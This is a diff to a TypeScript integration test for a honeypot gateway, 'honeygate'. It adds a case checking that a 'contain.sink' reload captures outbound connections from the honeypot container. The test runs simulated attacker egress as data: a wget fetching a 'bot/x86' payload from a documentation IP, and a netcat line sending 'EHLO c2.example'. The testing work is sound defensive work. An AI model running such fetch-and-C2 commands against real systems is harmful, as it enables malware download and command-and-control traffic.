@@ -4,6 +4,8 @@
 // itself. Every attempt is dropped and recorded as an egress event with its destination and
 // port, while an attacker's sessions to the same container (through honeygate, and through
 // Docker's published port) keep working and an allow-listed resolver (dnsmasq) still answers.
+// Last, a reload adds contain.sink: the container's wget is then held by honeygate's sink and
+// its request line recorded with the original destination.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
@@ -272,5 +274,67 @@ contain:
     const nc = await inHoneypot('echo x | nc -w 2 203.0.113.10 80');
     assert.notEqual(nc.code, 0, 'still held in');
     assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
+  });
+
+  test('sink: a wget is held by honeygate, its request line recorded with the original destination', {
+    skip,
+  }, async () => {
+    // reload with contain.sink: new TCP connections from the honeypot now go to the sink
+    fs.appendFileSync(path.join(dir, 'honeygate.yaml'), '  sink: { hold: 1s }\n');
+    const pid = gw.records.find((r) => r.msg === 'ready')?.pid;
+    assert.equal(typeof pid, 'number', 'the ready line names the pid');
+    process.kill(pid as number, 'SIGHUP');
+    await gw.waitForLog('the sink', (r) => r.msg === 'contain.sink listening');
+    await gw.waitForLog('the reload', (r) => r.msg === 'config reloaded');
+    assert.ok(!gw.records.some((r) => String(r.msg).includes('its firewall rules failed')), gw.output());
+    await waitFor(
+      'the sink chain',
+      () =>
+        inGateway(farm, ['nft', 'list', 'chain', 'inet', 'honeygate', 'contain_sink']).includes('redirect'),
+      10_000,
+    );
+
+    const wget = await inHoneypot(`${WGET} 'http://203.0.113.11/bot/x86?id=7'`);
+    assert.notEqual(wget.code, 0, `the sink answers nothing: ${wget.out}`);
+    const held = await waitFor(
+      'the sink event',
+      () => egress().find((e) => e.action === 'capture' && e.dst.ip === '203.0.113.11'),
+      15_000,
+    );
+    assert.deepEqual(
+      [held.src.ip, held.dst, held.protocol, held.listener],
+      [HP, { ip: '203.0.113.11', port: 80 }, 'tcp', 'contain.sink'],
+    );
+    assert.ok(held.src.port > 0, 'the honeypot side port is kept');
+    assert.match(
+      held.firstBytes.toString('latin1'),
+      /^GET \/bot\/x86\?id=7 HTTP\/1\.[01]\r\nHost: 203\.0\.113\.11\r\n/,
+    );
+    assert.equal(held.closeReason, 'capture-timeout', 'held for contain.sink.hold, then closed');
+    assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
+
+    // toward the gateway itself too
+    const nc = await inHoneypot(`echo 'EHLO c2.example' | timeout 3 nc ${BRIDGE} 25`);
+    assert.doesNotMatch(nc.out, /\S/, `the sink sends nothing: ${nc.out}`);
+    const smtp = await waitFor(
+      'the sink event for the gateway',
+      () => egress().find((e) => e.action === 'capture' && e.dst.ip === BRIDGE && e.dst.port === 25),
+      15_000,
+    );
+    assert.equal(smtp.firstBytes.toString('latin1'), 'EHLO c2.example\n');
+
+    // nobody reaches the sink's port directly; the attacker's sessions are untouched
+    const direct = await farm.topology.exec(farm.attacker1.ns, [
+      'socat',
+      '-u',
+      'OPEN:/dev/null',
+      `TCP:${farm.attacker1.gw4}:15071,connect-timeout=1`,
+    ]);
+    assert.notEqual(direct.code, 0, 'the sink port is closed to everyone but redirected connections');
+    const session = await connectFrom(farm.topology, farm.attacker1.ns, farm.attacker1.gw4, 2222);
+    assert.match(await session.line(), /^peer /);
+    session.write('still here\n');
+    assert.equal(await session.line(), 'still here');
+    await session.close();
   });
 });
